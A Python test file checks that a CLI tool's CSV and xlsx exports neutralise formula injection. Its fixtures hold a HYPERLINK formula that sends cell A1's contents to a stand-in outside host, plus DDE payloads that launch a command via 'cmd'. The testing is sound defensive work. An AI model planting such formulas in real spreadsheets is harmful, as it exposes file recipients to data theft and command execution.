"""Text a user typed never becomes a live formula in a CSV or xlsx we write (bad input III).

A scenario named ``=HYPERLINK(…)`` (a participant can type it), an owner or an evidence item
starting with ``=``, ``+``, ``-`` or ``@`` is neutralised: an apostrophe in CSV, a text cell in xlsx.
"""

from __future__ import annotations

import csv
import io
import tomllib
from pathlib import Path

import openpyxl
import pytest
import tomli_w

from tui.cli.main import main
from tui.core.resources import scenarios_dir

HOSTILE_NAME = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
HOSTILE_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_ITEM = "+1+cmd|' /C calc'!A0"


def hostile_plan(tmp_path: Path) -> Path:
    data = tomllib.loads((scenarios_dir() / "contoh-rencana-aksi.toml").read_text("utf-8"))
    data["scenario"]["name"] = HOSTILE_NAME
    for item in data["evidence"]:
        if item.get("owner") == "Dinas Kesehatan":  # not a programme's (those come from the cost file)
            item["owner"] = HOSTILE_OWNER
    data["evidence"][0]["item"] = HOSTILE_ITEM
    path = tmp_path / "rencana.toml"
    path.write_text(tomli_w.dumps(data), "utf-8")
    return path


def cells_of(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)  # formulas as written, not their cached values
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("command", ["export", "action-plan"])
def test_xlsx_keeps_hostile_text_exact_and_never_a_formula(command: str, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert main([command, str(hostile_plan(tmp_path)), "--format", "xlsx", "-o", str(out)]) == 0
    cells = cells_of(out)
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(HOSTILE_NAME in v for v in texts)
    if command == "action-plan":
        assert HOSTILE_OWNER in texts and any(HOSTILE_ITEM in v for v in texts)
    assert [c.value for c in cells if isinstance(c.value, int | float)]  # numbers stay numbers


@pytest.mark.parametrize("command", ["export", "action-plan"])
def test_csv_cells_that_could_run_start_with_an_apostrophe(command: str, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    assert main([command, str(hostile_plan(tmp_path)), "--format", "csv", "-o", "-"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff")), delimiter=";"))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "@") or (c[:1] in "+-" and not c[1:2].isdigit() and c[1:])]
    assert any("=HYPERLINK" in c for c in cells)  # there, harmless: neutralised or not at the start
    if command == "action-plan":
        assert "'" + HOSTILE_OWNER in cells
